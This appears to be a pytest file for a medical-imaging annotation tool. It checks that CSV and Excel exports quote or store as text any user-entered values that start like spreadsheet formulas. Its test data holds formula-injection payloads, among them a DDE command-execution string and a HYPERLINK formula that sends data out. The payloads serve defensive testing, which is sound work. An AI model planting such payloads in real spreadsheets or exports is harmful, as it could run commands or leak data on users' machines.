"""Spreadsheet formula injection: text a user typed (text annotations, ROI and series names)
never becomes a formula in an export's CSV files or workbook, numbers stay numbers, and a
re-import of the exported mapping still finds ROIs whose names start like a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import nibabel as nib
import numpy as np
import pytest
from openpyxl import load_workbook

from ril_dash.project.annotation_store import AnnotationStore
from ril_dash.project.export import export_project
from ril_dash.project.export_tables import Table, csv_cell_text, csv_text, excel_bytes
from ril_dash.project.import_masks import import_masks, load_mapping
from ril_dash.project.project import Project
from ril_dash.project.text_values import set_text_values
from tests.support import commit_roi

#: each one is a formula (or turns into one) when a spreadsheet opens the CSV
PAYLOADS = ['=HYPERLINK("http://x"&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-2+3",
            "@SUM(1)", "\tleading tab", "\rleading CR"]
#: the ones a text annotation can hold (its value is stripped of surrounding blanks)
TEXTS = PAYLOADS[:5]
SHAPE = (4, 4, 3)
#: a series per text, and two whose names start like a formula (a leading tab, "=")
SERIES = [f"s{i}.nii.gz" for i in range(len(TEXTS))] + ["=evil.nii.gz", "\ttab.nii.gz"]
YAML = """\
name: injection
images: images
annotations: annotations
rois:
  - {name: "=Liver", color: "#a0522d", value: 1}
  - {name: "@Spleen", color: "#00ff00", value: 2}
  - {name: "-Landmark", color: "#0000ff", value: 8, type: point}
text_fields:
  - {name: Note, type: text}
  - {name: Size, type: number}
"""


def _quoted(text: str) -> str:
    return "'" + text


@pytest.fixture()
def project(tmp_path: Path) -> Project:
    """One series per payload (its text annotation) plus one named "=evil"; every series has
    both area ROIs on an image of negative values, a point and a negative size."""
    data = -np.arange(np.prod(SHAPE), dtype=np.int16).reshape(SHAPE) - 5
    for sid in SERIES:
        path = tmp_path / "images" / sid
        path.parent.mkdir(parents=True, exist_ok=True)
        nib.save(nib.Nifti1Image(data, np.eye(4)), path)
    (tmp_path / "project.yaml").write_text(YAML)
    project = Project.open(tmp_path)
    store = AnnotationStore(project.config.annotations)
    for i, sid in enumerate(SERIES):
        ann = store.series(sid, SHAPE)
        commit_roi(ann, 1, [(0, 0, 0), (1, 1, 1)])
        commit_roi(ann, 2, [(2, 2, 2)])
        note = TEXTS[i] if i < len(TEXTS) else "=1+1"
        set_text_values(project.config, ann, ann.refresh().version,
                        {"Note": note, "Size": -12.5}, "=admin")
    return project


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_export_csv_quotes_formula_text_and_keeps_numbers(project: Project, tmp_path: Path):
    out = tmp_path / "out"
    report = export_project(project, out)
    assert sorted(report.exported) == sorted(SERIES)
    texts = _csv_rows(out / "text_annotations.csv")
    assert texts[0] == ["series", "Note", "Size"]
    by_series = {row[0]: row[1:] for row in texts[1:]}
    for i, text in enumerate(TEXTS):
        assert by_series[f"s{i}.nii.gz"] == [_quoted(text), "-12.5"]
    assert by_series["'=evil.nii.gz"] == by_series["'\ttab.nii.gz"] == ["'=1+1", "-12.5"]

    stats = _csv_rows(out / "roi_statistics.csv")
    assert {(row[0], row[1]) for row in stats[1:]} == {
        (s if s.startswith("s") else _quoted(s), roi) for s in SERIES
        for roi in ("'=Liver", "'@Spleen")}
    liver = next(row for row in stats[1:] if row[:2] == ["s0.nii.gz", "'=Liver"])
    # voxels (0,0,0) = -5 and (1,1,1) = -(12+3+1) - 5 = -21: negative numbers, never quoted
    assert dict(zip(stats[0], liver))["mean"] == "-13.0"
    assert dict(zip(stats[0], liver))["min"] == "-21.0"

    mapping = _csv_rows(out / "mapping.csv")
    assert [row[:2] for row in mapping[1:]] == [["1", "'=Liver"], ["2", "'@Spleen"],
                                                ["8", "'-Landmark"]]


def test_export_workbook_holds_text_as_strings(project: Project, tmp_path: Path):
    out = tmp_path / "out"
    export_project(project, out)
    book = load_workbook(out / "ril_dash_export.xlsx")
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    seen.add(cell.value)
    # text unchanged (no quote added in a workbook), numbers still numbers
    assert set(TEXTS) | {"=1+1", "=evil.nii.gz", "\ttab.nii.gz", "=Liver", "@Spleen",
                         "-Landmark"} <= seen
    texts = list(book["text_annotations"].iter_rows(values_only=True))
    assert {row[0]: row[1:] for row in texts[1:]}["s0.nii.gz"] == (TEXTS[0], -12.5)
    stats = list(book["statistics"].iter_rows(values_only=True))
    row = dict(zip(stats[0], next(r for r in stats[1:] if r[:2] == ("s0.nii.gz", "=Liver"))))
    assert (row["mean"], row["min"]) == (-13.0, -21.0)


def test_reimport_of_the_exported_mapping_finds_formula_like_names(project: Project,
                                                                    tmp_path: Path):
    out = tmp_path / "out"
    export_project(project, out, per_roi=False, points=False, tables=False, excel=False)
    assert "1,'=Liver," in (out / "mapping.csv").read_text(encoding="utf-8")
    assert load_mapping(out / "mapping.csv", project.config.rois) == {
        r.value: r for r in project.config.rois}
    report = import_masks(project, out / "masks", mapping=out / "mapping.csv")
    assert not report.errors, [e.error for e in report.errors]
    assert len(report.imported) == len(SERIES)
    store = AnnotationStore(project.config.annotations)
    for sid in SERIES:
        state = store.series(sid, SHAPE).refresh()
        for value in (1, 2):
            bit = state.slots[value]
            assert sorted(map(tuple, np.argwhere((state.bits >> bit) & 1))) == (
                [(0, 0, 0), (1, 1, 1)] if value == 1 else [(2, 2, 2)])


def test_one_rule_for_every_table():
    extra = [["'=already", 0.5], [np.str_("=np"), np.float64(-2.5)]]
    table = Table("t", ("name", "n"), [[p, -1] for p in PAYLOADS] + extra)
    rows = list(csv.reader(io.StringIO(csv_text(table), newline="")))
    assert rows[1:] == [[_quoted(p), "-1"] for p in PAYLOADS] + [["''=already", "0.5"],
                                                                 ["'=np", "-2.5"]]
    assert [csv_cell_text(r[0]) for r in rows[1:]] == PAYLOADS + ["'=already", "=np"]
    # a CR or LF inside a text stays inside its (quoted) cell: no row starts with "=cmd"
    split = Table("t", ("name",), [["x\r=cmd|' /C calc'!A0"], ["y\n@SUM(1)"]])
    assert list(csv.reader(io.StringIO(csv_text(split), newline=""))) == [
        ["name"], ["x\r=cmd|' /C calc'!A0"], ["y\n@SUM(1)"]]
    sheet = load_workbook(io.BytesIO(excel_bytes([table])))["t"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # (an XML reader turns a CR into a LF: the workbook file format, not the writer)
    assert [(c.value, c.data_type) for c in cells] == [
        (p.replace("\r", "\n"), "s") for p in PAYLOADS] + [("'=already", "s"), ("=np", "s")]
    assert [row[1].value for row in sheet.iter_rows(min_row=2)][-1] == -2.5


def test_control_characters_do_not_fail_the_workbook():
    """A text annotation may hold control characters a workbook cannot store: the cell shows a
    replacement character instead of the whole export failing; the CSV keeps the text."""
    table = Table("t", ("note",), [["a\x01b\x1f=c"], ["=x\x0b"]])
    sheet = load_workbook(io.BytesIO(excel_bytes([table])))["t"]
    assert [(c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=2)] == [
        ("a\ufffdb\ufffd=c", "s"), ("=x\ufffd", "s")]
    assert list(csv.reader(io.StringIO(csv_text(table), newline="")))[1:] == [
        ["a\x01b\x1f=c"], ["'=x\x0b"]]
